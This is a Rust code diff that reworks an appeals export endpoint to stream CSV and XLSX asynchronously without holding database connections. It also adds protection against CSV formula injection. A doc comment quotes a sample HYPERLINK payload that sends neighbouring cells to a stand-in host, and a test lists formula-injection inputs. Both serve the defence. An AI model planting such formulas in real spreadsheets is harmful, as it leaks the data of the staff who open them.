@@ -1,9 +1,15 @@
 //! `GET /appeals/export?format=csv|xlsx`: the list's filters and masking, streamed.
 //!
-//! Rows are read page by page (keyset pagination) on a blocking thread and handed to
-//! the response through a bounded channel, so memory does not grow with the number of
-//! rows. XLSX is written with rust_xlsxwriter's constant-memory mode to a temporary file
-//! and then streamed from it.
+//! Rows are read page by page (keyset pagination) and handed to the response through a
+//! bounded channel, so memory does not grow with the number of rows. XLSX is written
+//! with rust_xlsxwriter's constant-memory mode to a temporary file and then streamed
+//! from it.
+//!
+//! A download goes as fast as the client reads, which may be never. So nothing waits
+//! for the client while holding a pooled connection or a thread: each page takes a
+//! connection and gives it back before its chunk is queued, and the queueing is an
+//! async wait. Ten slow downloads used to hold ten connections and starve every other
+//! request.
 
 use std::collections::HashMap;
 use std::io::Read;
@@ -174,11 +180,24 @@ impl Names {
     }
 }
 
-/// One exported row as text cells (CSV) — XLSX writes the typed values itself.
+/// Keeps a cell from being read as a formula by spreadsheet programs: a subject like
+/// `=HYPERLINK("http://x/?"&L2,"…")` would otherwise run when staff open the file and
+/// leak the neighbouring cells (OWASP, CSV Injection). A leading apostrophe makes the
+/// cell text; the cell's characters are otherwise unchanged.
+fn defuse_formula(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// One exported row as text cells (CSV) — XLSX writes the typed values itself, and its
+/// strings are never formulas.
 fn text_cells(a: &Appeal, names: &Names) -> Vec<String> {
     let (kato, territory) = names.territory(a.territory_id);
     let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-    vec![
+    let cells = vec![
         a.reg_number.clone(),
         a.status.clone(),
         a.channel.clone(),
@@ -202,82 +221,121 @@ fn text_cells(a: &Appeal, names: &Names) -> Vec<String> {
         a.resolved_at
             .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
             .unwrap_or_default(),
-    ]
+    ];
+    cells.into_iter().map(defuse_formula).collect()
 }
 
-/// Walks every matching appeal, newest first, a page at a time.
-fn for_each_page(
+/// One page of matching appeals, newest first, after the appeal `after` (keyset).
+fn page(
     conn: &mut DbConn,
     caller: &Caller,
     filter: &query::Filter,
-    mut visit: impl FnMut(&[Joined]) -> Result<(), ApiError>,
-) -> Result<(), ApiError> {
-    let mut cursor: Option<Cursor> = None;
-    loop {
-        let rows: Vec<Joined> = query::ordered(
-            query::filtered(conn, caller, filter)?,
-            Sort::Newest,
-            cursor.as_ref(),
-        )
-        .limit(PAGE)
-        .load(conn)?;
-        if rows.is_empty() {
-            return Ok(());
-        }
-        visit(&rows)?;
-        if (rows.len() as i64) < PAGE {
-            return Ok(());
-        }
-        cursor = rows.last().map(|r| Cursor::Id(r.0.id));
+    after: Option<i64>,
+) -> Result<Vec<Joined>, ApiError> {
+    let cursor = after.map(Cursor::Id);
+    Ok(query::ordered(
+        query::filtered(conn, caller, filter)?,
+        Sort::Newest,
+        cursor.as_ref(),
+    )
+    .limit(PAGE)
+    .load(conn)?)
+}
+
+/// The keyset cursor after `rows`, or `None` when `rows` was the last page.
+fn next_after(rows: &[Joined]) -> Option<i64> {
+    if (rows.len() as i64) < PAGE {
+        return None;
     }
+    rows.last().map(|r| r.0.id)
 }
 
 type Chunk = Result<Bytes, std::io::Error>;
 
-fn produce_csv(
-    db: &Db,
-    caller: &Caller,
-    filter: &query::Filter,
-    lang: Lang,
-    tx: &mpsc::Sender<Chunk>,
-) -> Result<(), ApiError> {
-    let mut conn = db.get()?;
-    let names = Names::load(&mut conn, lang)?;
-    let today = rules::today();
-    let send = |records: Vec<Vec<String>>, prefix: &[u8]| -> Result<(), ApiError> {
-        let mut out = csv::Writer::from_writer(prefix.to_vec());
-        for record in records {
-            out.write_record(record).map_err(anyhow::Error::from)?;
-        }
-        let chunk = out.into_inner().map_err(|e| anyhow::anyhow!("csv: {e}"))?;
-        tx.blocking_send(Ok(Bytes::from(chunk)))
-            .map_err(|_| ApiError::Internal(anyhow::anyhow!("export client went away")))
-    };
-    // A byte-order mark lets spreadsheet programs read the UTF-8 Cyrillic correctly.
-    send(
-        vec![headers(lang).into_iter().map(str::to_owned).collect()],
-        b"\xEF\xBB\xBF",
-    )?;
-    for_each_page(&mut conn, caller, filter, |rows| {
-        send(
-            rows.iter()
-                .map(|r| text_cells(&store::view(r, false, false, today), &names))
-                .collect(),
-            b"",
-        )
-    })
+/// Queues a chunk for the client, waiting (asynchronously, holding nothing) while the
+/// client is slow.
+async fn send(tx: &mpsc::Sender<Chunk>, chunk: Vec<u8>) -> Result<(), ApiError> {
+    tx.send(Ok(Bytes::from(chunk)))
+        .await
+        .map_err(|_| ApiError::Internal(anyhow::anyhow!("export client went away")))
 }
 
-fn produce_xlsx(
+fn csv_chunk(records: Vec<Vec<String>>, prefix: &[u8]) -> Result<Vec<u8>, ApiError> {
+    let mut out = csv::Writer::from_writer(prefix.to_vec());
+    for record in records {
+        out.write_record(record).map_err(anyhow::Error::from)?;
+    }
+    out.into_inner()
+        .map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))
+}
+
+async fn produce_csv(
+    db: Db,
+    caller: Caller,
+    filter: query::Filter,
+    lang: Lang,
+    tx: mpsc::Sender<Chunk>,
+) -> Result<(), ApiError> {
+    let names = db.run(move |conn| Ok(Names::load(conn, lang)?)).await?;
+    let today = rules::today();
+    // A byte-order mark lets spreadsheet programs read the UTF-8 Cyrillic correctly.
+    let header = vec![headers(lang).into_iter().map(str::to_owned).collect()];
+    send(&tx, csv_chunk(header, b"\xEF\xBB\xBF")?).await?;
+    let mut after = None;
+    loop {
+        let (c, f) = (caller.clone(), filter.clone());
+        // The connection goes back to the pool when this returns, before the wait below.
+        let rows = db.run(move |conn| page(conn, &c, &f, after)).await?;
+        let records = rows
+            .iter()
+            .map(|r| text_cells(&store::view(r, false, false, today), &names))
+            .collect();
+        send(&tx, csv_chunk(records, b"")?).await?;
+        match next_after(&rows) {
+            Some(id) => after = Some(id),
+            None => return Ok(()),
+        }
+    }
+}
+
+async fn produce_xlsx(
+    db: Db,
+    caller: Caller,
+    filter: query::Filter,
+    lang: Lang,
+    tx: mpsc::Sender<Chunk>,
+) -> Result<(), ApiError> {
+    let mut file = web::block(move || write_xlsx(&db, &caller, &filter, lang))
+        .await
+        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx task failed: {e}")))??;
+    loop {
+        let (back, buf) = web::block(move || {
+            let mut buf = vec![0u8; 64 * 1024];
+            let n = file.read(&mut buf)?;
+            buf.truncate(n);
+            Ok::<_, std::io::Error>((file, buf))
+        })
+        .await
+        .map_err(|e| ApiError::Internal(anyhow::anyhow!("xlsx read task failed: {e}")))?
+        .map_err(|e| ApiError::Internal(e.into()))?;
+        if buf.is_empty() {
+            return Ok(());
+        }
+        file = back;
+        send(&tx, buf).await?;
+    }
+}
+
+/// Writes the workbook to a temporary file, rewound. Blocking; no client waits here,
+/// and each page holds a connection only while it is read.
+fn write_xlsx(
     db: &Db,
     caller: &Caller,
     filter: &query::Filter,
     lang: Lang,
-    tx: &mpsc::Sender<Chunk>,
-) -> Result<(), ApiError> {
+) -> Result<std::fs::File, ApiError> {
     let xlsx = |e: XlsxError| ApiError::Internal(anyhow::anyhow!("xlsx: {e}"));
-    let mut conn = db.get()?;
-    let names = Names::load(&mut conn, lang)?;
+    let names = Names::load(&mut *db.get()?, lang)?;
     let today = rules::today();
     let mut workbook = Workbook::new();
     let date = Format::new().set_num_format("yyyy-mm-dd");
@@ -292,13 +350,17 @@ fn produce_xlsx(
     }
     sheet.set_freeze_panes(1, 0).map_err(xlsx)?;
     let mut row_index: u32 = 0;
-    for_each_page(&mut conn, caller, filter, |rows| {
-        for r in rows {
+    let mut after = None;
+    loop {
+        let rows = page(&mut *db.get()?, caller, filter, after)?;
+        for r in &rows {
             row_index += 1;
             let a = store::view(r, false, false, today);
             let (kato, territory) = names.territory(a.territory_id);
             let row = row_index;
             let s = |v: &Option<String>| v.clone().unwrap_or_default();
+            // Text goes in with write_string, never write(): a string is stored as a
+            // string even when it starts with "=", so no cell is a formula.
             sheet.write_string(row, 0, &a.reg_number).map_err(xlsx)?;
             sheet.write_string(row, 1, &a.status).map_err(xlsx)?;
             sheet.write_string(row, 2, &a.channel).map_err(xlsx)?;
@@ -355,8 +417,11 @@ fn produce_xlsx(
                     .map_err(xlsx)?;
             }
         }
-        Ok(())
-    })?;
+        match next_after(&rows) {
+            Some(id) => after = Some(id),
+            None => break,
+        }
+    }
     sheet
         .autofilter(0, 0, row_index, (COLUMNS.len() - 1) as u16)
         .map_err(xlsx)?;
@@ -364,17 +429,7 @@ fn produce_xlsx(
     workbook.save_to_writer(&mut file).map_err(xlsx)?;
     use std::io::Seek;
     file.rewind().map_err(|e| ApiError::Internal(e.into()))?;
-    let mut buf = vec![0u8; 64 * 1024];
-    loop {
-        let n = file
-            .read(&mut buf)
-            .map_err(|e| ApiError::Internal(e.into()))?;
-        if n == 0 {
-            return Ok(());
-        }
-        tx.blocking_send(Ok(Bytes::copy_from_slice(&buf[..n])))
-            .map_err(|_| ApiError::Internal(anyhow::anyhow!("export client went away")))?;
-    }
+    Ok(file)
 }
 
 /// Exports the appeals the list would show, with the same filters and masking, as CSV
@@ -426,15 +481,15 @@ pub async fn export(
     let (tx, rx) = mpsc::channel::<Chunk>(8);
     let db = state.db.clone();
     let filter = parsed.filter;
-    tokio::task::spawn_blocking(move || {
+    actix_web::rt::spawn(async move {
         let result = if xlsx {
-            produce_xlsx(&db, &caller, &filter, lang, &tx)
+            produce_xlsx(db, caller, filter, lang, tx.clone()).await
         } else {
-            produce_csv(&db, &caller, &filter, lang, &tx)
+            produce_csv(db, caller, filter, lang, tx.clone()).await
         };
         if let Err(e) = result {
             tracing::warn!(error = %e, "export stopped");
-            let _ = tx.blocking_send(Err(std::io::Error::other("export failed")));
+            let _ = tx.send(Err(std::io::Error::other("export failed"))).await;
         }
     });
     let stream = futures_util::stream::unfold(rx, |mut rx| async move {
@@ -478,5 +533,15 @@ mod tests {
             Lang::Kk
         );
         assert_eq!(headers(Lang::En)[0], "Registration number");
+    }
+
+    #[test]
+    fn cells_that_spreadsheets_read_as_formulas_become_text() {
+        for risky in ["=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(defuse_formula(risky.to_owned()), format!("'{risky}"));
+        }
+        for safe in ["Ауыз су", "2026-04-15", "a=b", "", "'quoted"] {
+            assert_eq!(defuse_formula(safe.to_owned()), safe);
+        }
     }
 }
